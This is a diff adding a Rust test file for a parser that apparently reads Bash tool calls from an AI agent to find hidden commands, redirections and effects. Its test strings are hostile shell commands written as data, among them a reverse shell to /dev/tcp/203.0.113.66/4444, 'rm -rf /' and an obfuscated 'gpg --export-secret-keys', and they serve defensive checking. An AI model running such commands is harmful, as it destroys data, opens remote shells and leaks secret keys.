@@ -1,0 +1,242 @@
+// SPDX-License-Identifier: Apache-2.0 OR MIT
+
+use serde_json::json;
+
+use super::*;
+use crate::description::builtin_programs;
+
+fn read_text(text: &str) -> ShellReading {
+    let tool = ToolCall::new("Bash", json!({ "command": text }));
+    let ground = Ground::new(Some("/home/user"), Some("/home/user/project"));
+    read_commands(&tool, &ground, Some("/home/user/project"), false, builtin_programs())
+}
+
+/// The commands of a text, one after another; what was not understood is among them.
+fn commands(text: &str) -> String {
+    let read = read_text(text);
+    let command = |command: &ShellCommand| {
+        let words = command.words.iter().map(|word| word.text.as_str());
+        let mut line: Vec<_> = [command.raw.as_str()].into_iter().chain(words).map(str::to_owned).collect();
+        line.extend(command.outputs.iter().map(|path| format!(">{}", path.text)));
+        line.join(" ")
+    };
+    let mut all: Vec<_> = read.commands.iter().map(command).collect();
+    if read.unparsed {
+        all.push("not understood".to_owned());
+    }
+    all.join("; ")
+}
+
+#[track_caller]
+fn table(rows: &[(&str, &str)]) {
+    for (text, wanted) in rows {
+        assert_eq!(commands(text), *wanted, "{text:?}");
+    }
+}
+
+#[test]
+fn no_command_is_lost_at_the_end_of_a_line() {
+    table(&[
+        ("ls|sort|uniq|cat\nrm -rf / >x", "ls; sort; uniq; cat; rm -rf / >x"),
+        ("ls|sort|uniq|grep b\ncp a b 2>&1 # x\n", "ls; sort; uniq; grep b; cp a b"),
+        ("a && b 2>&1\n\\rm -rf /", "a; b; rm -rf /"),
+        ("echo a > b\n\\rm -rf /", "echo a >b; rm -rf /"),
+        ("a <<< \"x\"\n\\rm -rf /", "a; rm -rf /"),
+        ("( a | b | c\n\\p7 w )", "a; b; c; p7 w"),
+        ("x > y | p | q $x\nif p18 w; then z; fi", "x >y; p; q $x; p18 w; z"),
+        ("a |& b |& c\np11 <<E\nt\nE", "a; b; c; p11"),
+    ]);
+}
+
+#[test]
+fn compound_commands_are_read_behind_what_stands_before_them() {
+    table(&[
+        ("! for x in a; do git push --force; done", "git push --force"),
+        ("! { git push --force; }", "git push --force"),
+        ("if ! { a; }; then b; fi", "a; b"),
+        ("time { git push --force; }", "git push --force"),
+        ("time -f %e rm -rf /", "time -f %e rm -rf /; rm -rf /"),
+        ("coproc S { sh -i 2>&1; }", "sh -i"),
+        ("! case x in *) a;; esac", "a"),
+        ("! (( i++ )) < r | b", "<; b"),
+        // Only some shells take it for arithmetic.
+        ("((rm -rf /))", "rm -rf /"),
+        ("(( a - b / 2 ))", ""),
+    ]);
+}
+
+#[test]
+fn words_and_files_around_redirections_are_kept() {
+    table(&[
+        ("python3 - <<'EOF'\nimport os\nEOF", "python3 -"),
+        ("git commit -F - <<E\nx\nE", "git commit -F -"),
+        ("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1", "bash -i"),
+        ("psql -h l <<E\n\\x\nE", "psql -h l"),
+        ("bash <<E\n\\rm -rf /\nE", "bash; rm -rf /"),
+        ("f() { a; } > r; f", "f; a; > >r"),
+        ("cat <<E; echo x\nt\nE", "cat; echo x"),
+        ("a <<E & b\nt\nE", "a; b"),
+        ("for v in; do a; done", "a"),
+        ("exec 9<>f", "exec >f"),
+    ]);
+    let inputs = read_text("bash -i >& /dev/tcp/203.0.113.66/4444 0>&1").commands.remove(0).inputs;
+    assert_eq!(inputs.first().map(|path| path.text.as_str()), Some("/dev/tcp/203.0.113.66/4444"));
+}
+
+#[test]
+fn what_is_no_script_is_said_not_to_be_understood() {
+    for text in ["a ) b", "if a; then b", "echo 'a", "do a; done", "x=(a"] {
+        assert!(commands(text).ends_with("not understood"), "{text}");
+    }
+}
+
+/// The part of the text that each command was read from.
+fn spans(text: &str) -> Vec<&str> {
+    let span = |command: &ShellCommand| {
+        let span = command.span.unwrap();
+        text.get(span.start as usize..span.end as usize).unwrap()
+    };
+    read_text(text).commands.iter().map(span).collect()
+}
+
+#[test]
+fn commands_know_their_place_in_the_text() {
+    assert_eq!(spans("cd x && rm -rf ~/y > log"), ["cd x", "rm -rf ~/y > log"]);
+    assert_eq!(spans("a $(b 'c') | d"), ["b 'c'", "a $(b 'c')", "d"]);
+    assert_eq!(spans("bash -c 'a; b' && c"), ["bash -c 'a; b'", "bash -c 'a; b'", "bash -c 'a; b'", "c"]);
+    assert_eq!(spans("f() { a; }; f; alias g='b c'; g"), ["f", "a", "alias g='b c'", "g", "g"]);
+}
+
+#[test]
+fn facts_say_how_sure_they_are() {
+    let possible = |text: &str| {
+        let read = read_text(text);
+        let commands = read.commands.into_iter().filter(|command| !command.certainty.is_certain());
+        commands.map(|command| command.raw).collect::<Vec<_>>()
+    };
+    assert_eq!(possible("rm -rf ~/x; cp a b > c"), [""; 0]);
+    assert_eq!(possible("rm *.log; rm $x; $y z; rm k"), ["rm", "rm", "$y"]);
+    assert_eq!(possible("f() { rm x; }; ls"), ["rm"]);
+    assert_eq!(possible("f() { rm x; }; f"), [""; 0]);
+    // Only zsh runs `rm` here.
+    assert_eq!(possible("=rm x"), ["rm"]);
+    let effects = read_text("rm a b*").effects;
+    let certain: Vec<_> = effects.iter().map(|effect| effect.certainty.is_certain()).collect();
+    assert_eq!(certain, [true, false]);
+}
+
+#[test]
+fn each_shell_runs_the_lines_before_one_that_it_refuses() {
+    // Bash writes to the file; zsh takes `<1-9>` for a pattern, and only zsh understands the last line.
+    let text = "echo x <1-9>/etc/passwd\n{ echo y }";
+    let read = read_text(text);
+    assert!(!read.unparsed);
+    assert!(
+        read.commands.iter().any(|command| command.outputs.iter().any(|path| path.text == "/etc/passwd"))
+    );
+    // A text inside it is asked about on its own.
+    assert!(read_text("{ bash -c \"echo 'a\" }").unparsed);
+}
+
+#[test]
+fn functions_within_functions_are_read() {
+    table(&[
+        ("f1() { f2() { rm x; }; }", "rm x"),
+        ("f() { g() { a; }; g; }; f", "f; g; a"),
+        (
+            "walk() { for d in \"$1\"/*/; do walk \"${d%/}\"; done; }\nwalk src | head",
+            "walk src; walk src/*; walk src/*/*; head",
+        ),
+    ]);
+}
+
+#[test]
+fn values_are_known_out_of_arrays_and_lines() {
+    table(&[
+        ("declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[a]}", "git reset --hard"),
+        (
+            "declare -A op=([a]=\"reset --hard\" [b]=\"clean -fd\"); git ${op[$k]}",
+            "git reset --hard; git clean -fd",
+        ),
+        ("declare -A op; op[a]=\"reset --hard\"; git ${op[$k]}", "git reset --hard"),
+        (
+            "mapfile -t A < <(printf '%s\\n' a '-b c'); x \"${A[@]}\"",
+            "printf %s\\n a -b c; mapfile -t A; x a -b c",
+        ),
+        ("IFS=, read -r a b <<< \"x,y z\"; p \"$a\" \"$b\" $c", "read -r a b; p x y z $c"),
+        (
+            "sub=$(printf 'export-%s-keys' \"$(rev <<< terces)\"); gpg \"--$sub\"",
+            "rev; printf export-%s-keys secret; gpg --export-secret-keys",
+        ),
+        ("printf -v x '%s-%s' a b; p $x", "printf -v x %s-%s a b; p a-b"),
+    ]);
+}
+
+#[test]
+fn long_ladders_of_branches_take_no_longer_with_every_step() {
+    let mut text = "x=$(a); ".to_owned();
+    for number in 0..200 {
+        text.push_str(&format!("if b; then x=$x{number}$(c); elif d; then y=$x; fi\n"));
+    }
+    let read = read_text(&text);
+    assert!(!read.unparsed);
+    assert!(read.commands.iter().all(|command| command.words.len() < 4));
+}
+
+#[test]
+fn nothing_is_too_deep() {
+    for open in [
+        "${x:-", "$(", "$((", "$[", "\"${x:-", "\"$(", "<(", "{ ", "( ", "if ", "f() { ", "! ", "a[$(", "`",
+        "[[ ( ",
+    ] {
+        for times in [30, 58, 64, 200, 3_000] {
+            let text = format!("a {}rm -rf /", open.repeat(times));
+            commands(&text);
+        }
+    }
+    for (open, close) in [
+        ("$(", ")"),
+        ("${x:-", "}"),
+        ("( ", ")"),
+        ("\"$(", ")\""),
+        ("a <(", ")"),
+        ("{ ", ";}"),
+        ("f() { ", ";}"),
+    ] {
+        for times in [20, 58, 63, 200] {
+            commands(&format!("{}rm -rf /{}", open.repeat(times), close.repeat(times)));
+        }
+    }
+}
+
+#[test]
+fn the_number_of_the_process_is_unknown_wherever_it_stands() {
+    for text in ["a$$", "a$$ b", "(a$$)", "x=$$; a$x", "a\"$$\" b"] {
+        let programs: Vec<_> =
+            read_text(text).commands.iter().map(|command| command.program.clone()).collect();
+        assert_eq!(programs, [""], "{text}");
+    }
+}
+
+#[test]
+fn what_is_put_in_place_of_a_mark_is_bounded_and_what_is_left_out_is_told() {
+    let many = |part: &str| part.repeat(4000);
+    for text in [
+        format!("echo {}| xargs -I% echo {}", many("a "), many("% ")),
+        format!("echo {} | xargs -I% rm {}", many("aaaa"), many("%")),
+        format!("parallel echo {} ::: {}", many("{} "), many("a ")),
+        format!("fd x {} -x echo {}", many("a "), many("{} ")),
+        format!("find a b {} -exec echo {} \\;", many("-name a -o "), many("{} ")),
+    ] {
+        let read = read_text(&text);
+        assert!(read.unparsed, "{}", text.get(..60).unwrap());
+        let words =
+            |command: &ShellCommand| command.words.iter().map(|word| 40 + word.text.len()).sum::<usize>();
+        let size: usize = read.commands.iter().map(words).sum();
+        assert!(size < 20 << 20, "{size} bytes of {}", text.get(..60).unwrap());
+    }
+    assert_eq!(
+        commands("echo a b | xargs -I% cp % %.old"),
+        "echo a b; xargs -I% cp % %.old; cp a a.old; cp b b.old"
+    );
+}
